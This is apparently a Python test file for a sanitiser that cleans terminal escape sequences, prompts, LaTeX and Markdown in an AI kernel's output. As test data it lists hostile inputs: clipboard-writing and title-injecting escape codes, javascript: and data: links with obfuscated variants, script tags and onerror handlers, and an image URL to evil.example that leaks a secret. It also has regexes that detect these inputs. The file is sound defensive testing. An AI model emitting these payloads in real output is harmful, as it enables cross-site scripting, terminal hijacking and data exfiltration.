"""Terminal sequences, prompts, LaTeX and Markdown."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from agently_kernel.outputs import StreamFilter
from agently_kernel.outputs.text import ZERO_WIDTH, clean_latex, clean_markdown, clean_prompt, clean_text, one_line

KEPT = [
    "plain",
    "\x1b[31mred\x1b[0m",
    "\x1b[38;5;196m\x1b[1;4mx\x1b[m",
    "a\rb",
    "a\bb",
    "tab\tx\n",
    "é \u2588 \U0001f600",
    "bell\x07",
]
REMOVED = {
    "title": ("\x1b]0;title\x07x", "x"),
    "title ended by ST": ("\x1b]2;title\x1b\\x", "x"),
    "link": ("\x1b]8;;https://evil.example\x07text\x1b]8;;\x07", "text"),
    "clipboard": ("\x1b]52;c;aGk=\x07x", "x"),
    "device query": ("\x1b[6nx\x1b[c", "x"),
    "cursor movement": ("\x1b[2J\x1b[1;1Hx\x1b[10A", "x"),
    "alternate screen": ("\x1b[?1049hx", "x"),
    "device control": ("\x1bPq#0;2;0;0;0\x1b\\x", "x"),
    "application command": ("\x1b_Gpayload\x1b\\x", "x"),
    "reset": ("\x1bcx", "x"),
    "character set": ("\x1b(0x\x0ey\x0f", "xy"),
    "eight-bit CSI": ("\x9b31mx\x9b2J", "x"),
    "eight-bit OSC": ("\x9dx", "x"),
    "enquiry": ("\x05x", "x"),
    "lone escape": ("x\x1b", "x"),
    "title that never ends": ("\x1b]0;" + "a" * 5000 + "\n", "]0;" + "a" * 5000 + "\n"),
    "sequence in a sequence": ("\x1b\x1b[31m[31mx", "\x1b[31m[31mx"),
    "hidden in a colour": ("\x1b[31\x1b]0;t\x07mx", "[31mx"),
}


@pytest.mark.parametrize("text", KEPT)
def test_colours_and_line_control_stay(text: str) -> None:
    assert clean_text(text) == text
    stream = StreamFilter()
    assert stream.feed(text) + stream.flush() == text


@pytest.mark.parametrize(("text", "expected"), REMOVED.values(), ids=REMOVED.keys())
def test_other_sequences_go(text: str, expected: str) -> None:
    assert clean_text(text) == expected
    stream = StreamFilter()
    assert "".join(stream.feed(c) for c in text) + stream.flush() == expected


SEQUENCES = st.sampled_from(
    [
        "\x1b",
        "\x1b[",
        "\x1b]",
        "\x1bP",
        "\x1b\\",
        "\x07",
        "\x9b",
        "\x9c",
        "m",
        "31",
        ";",
        "0",
        " ",
        "x",
        "\n",
        "[",
        "]",
        "é",
        "A",
        "P",
        "(",
    ]
)


@given(st.lists(SEQUENCES, max_size=24).map("".join), st.lists(st.integers(0, 40), max_size=6))
@settings(max_examples=400, deadline=None)
@example("\x1b]ab\x9bcd\x07", [5])
@example("\x1bP\x1b\x1b\\", [4])
def test_cleaning_does_not_depend_on_where_text_is_cut(text: str, cuts: list[int]) -> None:
    stream, at, out = StreamFilter(), 0, ""
    for cut in sorted(c for c in cuts if c < len(text)):
        out += stream.feed(text[at:cut])
        at = cut
    out += stream.feed(text[at:]) + stream.flush()
    assert out == clean_text(text)


@given(st.text(alphabet="\x1b[]P_\\0;31mx\x07\x9b\x9d\x0e\n", max_size=60))
@settings(max_examples=400, deadline=None)
def test_what_is_left_of_escapes_are_colours(text: str) -> None:
    cleaned = clean_text(text)
    assert re.sub(r"\x1b\[[0-9;:]*m", "", cleaned).count("\x1b") == 0
    assert not re.search("[\x05\x0e\x0f\x80-\x9f]", cleaned)


def test_plain_text_costs_next_to_nothing() -> None:
    stream, line = StreamFilter(), "a line of output\n" * 4
    started = time.process_time()
    for _ in range(20_000):
        stream.feed(line)
    each = (time.process_time() - started) / 20_000
    assert each < 20e-6  # a cell that prints takes about 5 ms


def test_held_back_text_is_bounded() -> None:
    stream = StreamFilter()
    shown = sum(len(stream.feed("\x1b]" + "a" * 1000)) for _ in range(100))
    assert shown > 90_000


def test_prompts_have_no_colours_and_an_end() -> None:
    assert clean_prompt("\x1b[31mName: \x1b]0;x\x07", 100) == "Name: "
    assert clean_prompt("x" * 5000, 4096) == "x" * 4096


def test_one_line_shows_nothing_invisible() -> None:
    assert one_line("a\u202eb\n\tc\x1b]0;x\x07\u200bd") == "a b c d"
    assert one_line("x" * 300) == "x" * 199 + "…"


LATEX = {
    r"\href{javascript:alert(1)}{x}": "\\\u200bhref{javascript\u200b:alert(1)}{x}",
    r"\href{https://example.org/a?b=1}{x}": r"\href{https://example.org/a?b=1}{x}",
    r"\href {https://example.org}{x}": r"\href {https://example.org}{x}",
    r"\require{html}\class{jp-Dialog}{x}": "\\\u200brequire{html}\\\u200bclass{jp-Dialog}{x}",
    r"\style{position:fixed}{x}": "\\\u200bstyle{position:fixed}{x}",
    r"\cssId{x}{y}": "\\\u200bcssId{x}{y}",
    r'\mmlToken{mi}[href="javascript:1"]{x}': '\\\u200bmmlToken{mi}[href="javascript\u200b:1"]{x}',
    r"\def\y#1{\href{#1script:alert(1)}{z}}\y{java}": "\\def\\y#1{\\\u200bhref{#1script:alert(1)}{z}}\\y{java}",
    r"\csname href\endcsname{x}": "\\\u200bcsname href\\endcsname{x}",
    r"\htmlData{x=y}{z}": "\\\u200bhtmlData{x=y}{z}",
    r"$\frac{a}{b} \classical \styled$": r"$\frac{a}{b} \classical \styled$",
    r"$a<b$": r"$a< b$",
    r"<script>alert(1)</script>": r"< script>alert(1)< /script>",
    r"$$\begin{aligned}x &= 1 \\ y &= 2\end{aligned}$$": r"$$\begin{aligned}x &= 1 \\ y &= 2\end{aligned}$$",
}


@pytest.mark.parametrize(("source", "expected"), LATEX.items())
def test_latex(source: str, expected: str) -> None:
    assert clean_latex(source) == expected
    assert clean_latex(expected) == expected


MARKDOWN = {
    "# Title\n\n- **a** `b`\n\n| x | y |\n|---|---|\n": "# Title\n\n- **a** `b`\n\n| x | y |\n|---|---|\n",
    "<b>x</b><br/>H<sub>2</sub>O": "<b>x</b><br/>H<sub>2</sub>O",
    "[x](https://example.org)": "[x](https://example.org)",
    "<script>alert(1)</script>": "<\u200bscript>alert(1)<\u200b/script>",
    "<ScRiPt >": "<\u200bScRiPt >",
    "<b onclick=alert(1)>": "<\u200bb onclick\u200b=alert(1)>",
    "<img src=x onerror=alert(1)>": "<\u200bimg src=x onerror\u200b=alert(1)>",
    "<!-- x --><?php": "<\u200b!-- x --><\u200b?php",
    "```html\n<div class=a>\n```": "```html\n<\u200bdiv class=a>\n```",
    "[x](javascript:alert(1))": "[x](javascript\u200b:alert(1))",
    "[x](JaVaScRiPt:alert(1))": "[x](JaVaScRiPt\u200b:alert(1))",
    "[x](java&#115;cript&colon;alert(1))": "[x](java&#115;cript\u200b&colon;alert(1))",
    "[x](&#x6A;avascript&#x3a;alert(1))": "[x](&#x6A;avascript\u200b&#x3a;alert(1))",
    "[x](java\tscript\\:alert(1))": "[x](java\tscript\u200b\\:alert(1))",
    "[x](<java&NewLine;script:alert(1)>)": "[x](<\u200bjava&NewLine;script\u200b:alert(1)>)",
    "[x]: javascript:alert(1)": "[x]: javascript\u200b:alert(1)",
    "<javascript:alert(1)>": "<\u200bjavascript\u200b:alert(1)>",
    "[x](data:text/html,<b>)": "[x](data\u200b:text/html,<b>)",
    "[x](vbscript:x)": "[x](vbscript\u200b:x)",
    "![p](data:image/png;base64,iVBORw0KGgo=)": "![p](data:image/png;base64,iVBORw0KGgo=)",
    "![p](data:image/svg+xml;base64,AAAA)": "!\u200b[p](data\u200b:image/svg+xml;base64,AAAA)",
    "![p](https://evil.example/?secret)": "!\u200b[p](https://evil.example/?secret)",
    "![p][r]\n\n[r]: https://evil.example": "!\u200b[p][r]\n\n[r]: https://evil.example",
    "let v = vec![1, 2];": "let v = vec![1, 2];",
    "def f(data: dict) -> None:  # metadata: {x: 1}": "def f(data: dict) -> None:  # metadata: {x: 1}",
    r"$\href{javascript:alert(1)}{x}$ and $a<b$": "$\\\u200bhref{javascript\u200b:alert(1)}{x}$ and $a<\u200bb$",
}


@pytest.mark.parametrize(("source", "expected"), MARKDOWN.items())
def test_markdown(source: str, expected: str) -> None:
    assert clean_markdown(source) == expected
    assert clean_markdown(expected) == expected


def test_markdown_images_load_with_network() -> None:
    assert clean_markdown("![p](https://example.org/x.png)", network_allowed=True) == "![p](https://example.org/x.png)"


@given(
    st.lists(st.sampled_from([*MARKDOWN, "<", "&", "javascript", ":", "&colon;", "\\", "(", "]", " "]), max_size=6).map(
        "".join
    )
)
@settings(max_examples=200, deadline=None)
def test_no_markdown_has_a_tag_with_attributes_or_a_script_link(source: str) -> None:
    cleaned = clean_markdown(source)
    assert not re.search(r"<(?:script|img|iframe|b\s+on|!--)", cleaned, re.I)
    assert not re.search(r"\bjavascript:|\bon(?:error|load|click)\s*=", cleaned, re.I)
    assert clean_markdown(cleaned) == cleaned
    assert cleaned.replace(ZERO_WIDTH, "") == source.replace(ZERO_WIDTH, "")
